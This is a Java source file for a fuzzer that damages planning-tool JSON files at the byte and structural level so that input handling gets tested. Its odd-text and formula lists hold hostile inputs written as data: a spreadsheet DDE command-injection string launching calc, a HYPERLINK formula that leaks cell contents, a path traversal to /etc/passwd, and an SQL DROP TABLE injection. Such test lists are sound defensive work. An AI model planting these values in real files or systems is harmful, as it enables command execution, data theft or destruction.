package org.kaname.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.function.Consumer;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.kaname.model.Limits;

/**
 * Damages a plan file the ways users and hostile files do: at the byte level (bits flipped, ranges inserted, deleted,
 * duplicated or cut off, NULs, byte order marks, invalid UTF-8, huge numbers) and in its JSON structure (values of
 * another type, extreme numbers, texts just over and under every limit, lone surrogates, control characters, formulas,
 * deep nesting, duplicate keys, fields removed, references left dangling, prerequisite cycles, implausible years,
 * scales and costs). Each mutation is named, so a finding says what kind of input it was.
 */
final class PlanMutator {
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    /** Stands for an escape Jackson will not write (a lone surrogate); replaced in the text after writing. */
    private static final String LONE_HIGH = "\u0001LONE-HIGH\u0001";
    private static final String LONE_LOW = "\u0001LONE-LOW\u0001";
    private static final String DEEP = "\u0001DEEP\u0001";
    private static final Pattern DEEP_TEXT = Pattern.compile("\"\\\\u0001DEEP\\\\u0001([\\[{])(\\d+)\\\\u0001DEEP\\\\u0001\"");
    private static final String[] EXTREME_NUMBERS = {"2000000000", "-2000000000", "2147483647", "-2147483648",
        "2147483648", "9223372036854775807", "9223372036854775808", "1e308", "-1e308", "1e309", "-0", "-0.0", "0.0",
        "4.9e-324", "1e-400", "1000000000000000", "999999999999999", "1E15", "9007199254740993", "0.5", "-1",
        "20300", "1988", "2101", "1e" + "9".repeat(5), "1" + "0".repeat(400), "0.1e2"};
    private static final String[] ODD_TEXTS = {"", " ", "\u3000", "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click me\")",
        "=1+1", "+1", "-1", "@A1", "\tTAB", "\rCR", "NaN", "Infinity", "-Infinity", "null", "true", "0x10", "1,5", "５",
        "\u0000", "\u0007bell", "\u001b[31mred", "\u007f", "\u2028", "\ufeff", "\ufffe", "\uffff", "😀", "𠮷",
        LONE_HIGH, LONE_LOW, "a" + LONE_HIGH + "b", "<script>", "../../etc/passwd", "C:\\CON", "'; DROP TABLE plans;--"};
    private static final int[] LENGTHS = {Limits.CODE_LENGTH - 1, Limits.CODE_LENGTH, Limits.CODE_LENGTH + 1,
        Limits.SHORT_TEXT_LENGTH, Limits.SHORT_TEXT_LENGTH + 1, Limits.LONG_TEXT_LENGTH, Limits.LONG_TEXT_LENGTH + 1,
        32_767, 32_768, 100_000};

    private final SplittableRandom random;
    private final List<String> applied = new ArrayList<>();

    PlanMutator(SplittableRandom random) {
        this.random = random;
    }

    /** What was done, for the finding. */
    String description() {
        return String.join(" + ", applied);
    }

    /** One to three mutations of {@code original}: mostly structural, a third at the byte level. */
    byte[] mutate(byte[] original) throws Exception {
        byte[] bytes = original;
        int n = 1 + random.nextInt(3);
        for (int i = 0; i < n; i++) {
            bytes = random.nextInt(3) == 0 ? bytes(bytes) : structure(bytes);
        }
        return bytes;
    }

    /**
     * As {@link #mutate}, for any JSON file (a score file): only the mutations that know nothing of a plan's fields.
     */
    byte[] mutateGeneric(byte[] original) throws Exception {
        generic = true;
        return mutate(original);
    }

    private boolean generic;

    // ---- byte level ----

    byte[] bytes(byte[] b) {
        if (b.length == 0) {
            applied.add("empty");
            return b;
        }
        int at = random.nextInt(b.length);
        switch (random.nextInt(10)) {
            case 0 -> {
                applied.add("bit flipped at " + at);
                byte[] c = b.clone();
                c[at] ^= (byte) (1 << random.nextInt(8));
                return c;
            }
            case 1 -> {
                applied.add("truncated at " + at);
                return java.util.Arrays.copyOf(b, at);
            }
            case 2 -> {
                int len = 1 + random.nextInt(Math.min(200, b.length - at));
                applied.add("deleted " + len + " bytes at " + at);
                return splice(b, at, len, new byte[0]);
            }
            case 3 -> {
                int len = 1 + random.nextInt(Math.min(2000, b.length - at));
                applied.add("duplicated " + len + " bytes at " + at);
                return splice(b, at, 0, java.util.Arrays.copyOfRange(b, at, at + len));
            }
            case 4 -> {
                applied.add("NUL inserted at " + at);
                return splice(b, at, 0, new byte[] {0});
            }
            case 5 -> {
                int where = random.nextBoolean() ? 0 : at;
                applied.add("BOM inserted at " + where);
                return splice(b, where, 0, new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});
            }
            case 6 -> {
                byte[][] bad = {{(byte) 0xFF}, {(byte) 0xC3, 0x28}, {(byte) 0xC0, (byte) 0xAF}, {(byte) 0x80},
                    {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
                    {(byte) 0x82, (byte) 0xA0}, {(byte) 0xE3, (byte) 0x81}};
                int k = random.nextInt(bad.length);
                applied.add("invalid UTF-8 #" + k + " at " + at);
                return splice(b, at, 0, bad[k]);
            }
            case 7 -> {
                applied.add("random bytes at " + at);
                byte[] junk = new byte[1 + random.nextInt(16)];
                for (int i = 0; i < junk.length; i++) {
                    junk[i] = (byte) random.nextInt(256);
                }
                return splice(b, at, 0, junk);
            }
            default -> {
                String text = new String(b, StandardCharsets.ISO_8859_1);
                Matcher m = Pattern.compile("-?\\d+(\\.\\d+)?").matcher(text);
                List<int[]> numbers = new ArrayList<>();
                while (m.find()) {
                    numbers.add(new int[] {m.start(), m.end()});
                }
                if (numbers.isEmpty()) {
                    applied.add("no number to replace");
                    return b;
                }
                int[] r = numbers.get(random.nextInt(numbers.size()));
                String huge = EXTREME_NUMBERS[random.nextInt(EXTREME_NUMBERS.length)];
                applied.add("number at " + r[0] + " → " + Invariants.abbreviate(huge, 20));
                return splice(b, r[0], r[1] - r[0], huge.getBytes(StandardCharsets.US_ASCII));
            }
        }
    }

    private static byte[] splice(byte[] b, int at, int remove, byte[] insert) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(b.length + insert.length);
        out.write(b, 0, at);
        out.write(insert, 0, insert.length);
        out.write(b, at + remove, b.length - at - remove);
        return out.toByteArray();
    }

    // ---- structure ----

    byte[] structure(byte[] b) throws Exception {
        JsonNode tree;
        try {
            tree = PlanGenerator.JSON.readTree(b);
        } catch (Exception e) {
            return bytes(b); // already broken JSON: keep damaging bytes
        }
        if (!(tree instanceof ObjectNode plan)) {
            return bytes(b);
        }
        int kind = generic ? new int[] {0, 1, 2, 3, 4, 5, 13}[random.nextInt(7)] : random.nextInt(14);
        if (kind == 13) {
            return duplicateKey(write(plan));
        }
        switch (kind) {
            case 0 -> otherType(plan);
            case 1 -> extremeNumber(plan);
            case 2 -> longText(plan);
            case 3 -> oddText(plan);
            case 4 -> deepNesting(plan);
            case 5 -> removeField(plan);
            case 6 -> removeOptionalStructure(plan);
            case 7 -> dangling(plan);
            case 8 -> cycle(plan);
            case 9 -> implausible(plan);
            case 10 -> formulaTitles(plan);
            case 11 -> manyItems(plan);
            default -> oddText(plan);
        }
        return write(plan);
    }

    /** The plan as text, lone-surrogate placeholders turned into their escapes. */
    static byte[] write(JsonNode plan) throws Exception {
        String text = PlanGenerator.JSON.writerWithDefaultPrettyPrinter().writeValueAsString(plan);
        text = text.replace("\\u0001LONE-HIGH\\u0001", "\\ud800").replace("\\u0001LONE-LOW\\u0001", "\\udfff");
        text = DEEP_TEXT.matcher(text).replaceAll(m -> {
            int depth = Integer.parseInt(m.group(2));
            boolean arrays = m.group(1).equals("[");
            return Matcher.quoteReplacement(arrays ? "[".repeat(depth) + "1" + "]".repeat(depth)
                    : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth));
        });
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** A place in the tree that holds a value: its parent and its key or index. */
    private record Slot(JsonNode parent, String key, int index, JsonNode value, String pointer) {
        void set(JsonNode v) {
            if (parent instanceof ObjectNode o) {
                o.set(key, v);
            } else {
                ((ArrayNode) parent).set(index, v);
            }
        }

        void remove() {
            if (parent instanceof ObjectNode o) {
                o.remove(key);
            } else {
                ((ArrayNode) parent).remove(index);
            }
        }
    }

    private static List<Slot> slots(JsonNode root) {
        List<Slot> slots = new ArrayList<>();
        walk(root, "", slots);
        return slots;
    }

    private static void walk(JsonNode node, String pointer, List<Slot> slots) {
        if (node instanceof ObjectNode o) {
            for (Iterator<Map.Entry<String, JsonNode>> it = o.fields(); it.hasNext(); ) {
                Map.Entry<String, JsonNode> e = it.next();
                String p = pointer + "/" + e.getKey();
                slots.add(new Slot(o, e.getKey(), -1, e.getValue(), p));
                walk(e.getValue(), p, slots);
            }
        } else if (node instanceof ArrayNode a) {
            for (int i = 0; i < a.size(); i++) {
                String p = pointer + "/" + i;
                slots.add(new Slot(a, null, i, a.get(i), p));
                walk(a.get(i), p, slots);
            }
        }
    }

    private Slot anySlot(ObjectNode plan, java.util.function.Predicate<JsonNode> which) {
        List<Slot> all = slots(plan).stream().filter(s -> which.test(s.value())).toList();
        return all.isEmpty() ? null : all.get(random.nextInt(all.size()));
    }

    private void otherType(ObjectNode plan) {
        Slot s = anySlot(plan, v -> true);
        if (s == null) {
            plan.put("format", "kaname-plan");
            applied.add("emptied");
            return;
        }
        JsonNode[] others = {NODES.nullNode(), NODES.booleanNode(true), NODES.textNode("2"), NODES.numberNode(2),
            NODES.arrayNode(), NODES.objectNode(), NODES.numberNode(2.5), NODES.textNode("")};
        JsonNode v = others[random.nextInt(others.length)];
        applied.add(s.pointer() + " → " + v);
        s.set(v);
    }

    private void extremeNumber(ObjectNode plan) {
        Slot s = anySlot(plan, JsonNode::isNumber);
        if (s == null) {
            return;
        }
        String n = EXTREME_NUMBERS[random.nextInt(EXTREME_NUMBERS.length)];
        applied.add(s.pointer() + " → " + Invariants.abbreviate(n, 20));
        s.set(n.startsWith("-0") ? NODES.numberNode(-0.0) : NODES.numberNode(new BigDecimal(n)));
    }

    private void longText(ObjectNode plan) {
        Slot s = anySlot(plan, JsonNode::isTextual);
        if (s == null) {
            return;
        }
        int length = LENGTHS[random.nextInt(LENGTHS.length)];
        String unit = random.nextInt(4) == 0 ? "😀" : random.nextBoolean() ? "あ" : "a";
        String text = unit.repeat((length + unit.length() - 1) / unit.length());
        applied.add(s.pointer() + " → " + text.length() + " chars of " + unit);
        s.set(NODES.textNode(text));
    }

    private void oddText(ObjectNode plan) {
        Slot s = anySlot(plan, JsonNode::isTextual);
        if (s == null) {
            return;
        }
        String odd = ODD_TEXTS[random.nextInt(ODD_TEXTS.length)];
        String v = random.nextBoolean() ? odd : s.value().asText() + odd;
        applied.add(s.pointer() + " → odd text «" + visible(odd) + "»");
        s.set(NODES.textNode(v));
    }

    private void deepNesting(ObjectNode plan) {
        Slot s = anySlot(plan, v -> true);
        if (s == null) {
            plan.put("format", "kaname-plan");
            applied.add("emptied");
            return;
        }
        int depth = new int[] {10, 63, 64, 65, 200, 3000}[random.nextInt(6)];
        boolean arrays = random.nextBoolean();
        applied.add(s.pointer() + " → nested " + depth + " deep");
        // Written as text after serialising: Jackson itself will not write more than 1,000 levels.
        s.set(NODES.textNode(DEEP + (arrays ? "[" : "{") + depth + DEEP));
    }

    private void removeField(ObjectNode plan) {
        Slot s = anySlot(plan, v -> true);
        if (s == null) {
            plan.put("format", "kaname-plan");
            applied.add("emptied");
            return;
        }
        applied.add(s.pointer() + " removed");
        s.remove();
    }

    private void removeOptionalStructure(ObjectNode plan) {
        switch (random.nextInt(4)) {
            case 0 -> {
                applied.add("every measure's group removed");
                plan.path("measures").forEach(m -> ((ObjectNode) m).remove("group"));
            }
            case 1 -> {
                applied.add("every group's pillar removed, pillars removed");
                plan.path("groups").forEach(g -> ((ObjectNode) g).remove("pillar"));
                plan.remove("pillars");
            }
            case 2 -> {
                applied.add("groups and pillars removed");
                plan.path("measures").forEach(m -> ((ObjectNode) m).remove("group"));
                plan.remove("groups");
                plan.remove("pillars");
                plan.path("cases").forEach(c -> ((ObjectNode) c).remove("groups"));
            }
            default -> {
                applied.add("scores, raters and rounds removed");
                plan.remove("scores");
                plan.remove("raters");
                plan.remove("rounds");
            }
        }
    }

    private void dangling(ObjectNode plan) {
        Slot s = anySlot(plan, JsonNode::isTextual);
        List<String> refs = List.of("group", "pillar", "measure", "criterion", "rater", "a", "b");
        List<Slot> named = slots(plan).stream().filter(x -> x.value().isTextual()
                && (x.key() != null && refs.contains(x.key()) || x.pointer().contains("/dependsOn/") || x.pointer().contains("/addresses/")
                || x.pointer().contains("/ranking/"))).toList();
        if (!named.isEmpty()) {
            s = named.get(random.nextInt(named.size()));
        }
        if (s != null) {
            applied.add(s.pointer() + " → dangling reference");
            s.set(NODES.textNode("nope-" + random.nextInt(100)));
        }
    }

    private void cycle(ObjectNode plan) {
        JsonNode ms = plan.path("measures");
        if (ms.size() < 1) {
            return;
        }
        int length = Math.min(ms.size(), 1 + random.nextInt(Math.min(ms.size(), 40)));
        applied.add("prerequisite cycle of " + length);
        for (int i = 0; i < length; i++) {
            String next = ms.get((i + 1) % length).path("id").asText();
            ((ObjectNode) ms.get(i)).putArray("dependsOn").add(next);
        }
    }

    private void implausible(ObjectNode plan) {
        ObjectNode fy = plan.get("fiscalYears") instanceof ObjectNode o ? o : plan.putObject("fiscalYears");
        JsonNode c = plan.path("criteria").path(0);
        JsonNode m = plan.path("measures").path(0);
        switch (random.nextInt(8)) {
            case 0 -> {
                applied.add("fiscal years end 2147483647");
                fy.put("end", Integer.MAX_VALUE);
            }
            case 1 -> {
                applied.add("fiscal years ±2e9");
                fy.put("start", -2_000_000_000);
                fy.put("end", 2_000_000_000);
            }
            case 2 -> {
                applied.add("fiscal year end 20300");
                fy.put("end", 20300);
            }
            case 3 -> {
                applied.add("31-year period");
                fy.put("start", 2026);
                fy.put("end", 2056);
            }
            case 4 -> {
                if (c instanceof ObjectNode co) {
                    applied.add("scale 1..1e9");
                    co.putObject("scale").put("min", 1).put("max", 1_000_000_000);
                }
            }
            case 5 -> {
                if (c instanceof ObjectNode co) {
                    applied.add("scale of 102 levels");
                    co.putObject("scale").put("min", 0).put("max", 101);
                }
            }
            case 6 -> {
                if (m instanceof ObjectNode mo) {
                    long cost = new long[] {Limits.MONEY_BOUND, Limits.MONEY_BOUND - 1, Long.MAX_VALUE}[random.nextInt(3)];
                    applied.add("costs " + cost);
                    mo.put("initialCost", cost);
                    mo.put("annualCost", cost);
                    mo.put("durationYears", 30);
                }
            }
            default -> {
                if (m instanceof ObjectNode mo) {
                    int year = new int[] {Integer.MAX_VALUE, 1988, 2101, fy.path("end").asInt() + 1}[random.nextInt(4)];
                    applied.add("pinnedStart/earliestStart " + year);
                    mo.put(random.nextBoolean() ? "pinnedStart" : "earliestStart", year);
                    mo.put("durationYears", random.nextBoolean() ? 31 : Integer.MAX_VALUE);
                }
            }
        }
    }

    private void formulaTitles(ObjectNode plan) {
        applied.add("formula titles");
        String f = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click me\")";
        plan.put("title", f);
        for (String list : new String[] {"measures", "criteria", "raters", "groups"}) {
            plan.path(list).forEach(x -> {
                ObjectNode o = (ObjectNode) x;
                o.put(o.has("title") ? "title" : "name", random.nextBoolean() ? f : "-2+3+cmd|' /C calc'!A0");
            });
        }
    }

    private void manyItems(ObjectNode plan) {
        JsonNode ms = plan.path("measures");
        if (!(ms instanceof ArrayNode a) || a.isEmpty()) {
            return;
        }
        int copies = new int[] {50, 300}[random.nextInt(2)];
        applied.add(copies + " copies of a measure");
        JsonNode first = a.get(0);
        for (int i = 0; i < copies; i++) {
            ObjectNode copy = first.deepCopy();
            copy.put("id", "copy-" + i);
            copy.remove("dependsOn");
            a.add(copy);
        }
    }

    private byte[] duplicateKey(byte[] b) {
        String text = new String(b, StandardCharsets.UTF_8);
        Matcher m = Pattern.compile("\"([A-Za-z]+)\" : ").matcher(text);
        List<int[]> keys = new ArrayList<>();
        while (m.find()) {
            keys.add(new int[] {m.start(), m.end()});
        }
        if (keys.isEmpty()) {
            applied.add("no key to duplicate");
            return b;
        }
        int[] k = keys.get(random.nextInt(keys.size()));
        String key = text.substring(k[0], k[1]);
        applied.add("duplicate key " + key.strip());
        return (text.substring(0, k[0]) + key + "\"dup\", " + text.substring(k[0])).getBytes(StandardCharsets.UTF_8);
    }

    static String visible(String s) {
        StringBuilder b = new StringBuilder();
        s.replace(LONE_HIGH, "\uD800").replace(LONE_LOW, "\uDFFF").chars().forEach(c -> b.append(c < 0x20 || c == 0x7f || c >= 0xfff0 || Character.isSurrogate((char) c)
                || c == 0x2028 || c == 0xfeff ? String.format("\\u%04x", c) : String.valueOf((char) c)));
        return Invariants.abbreviate(b.toString(), 60);
    }
}
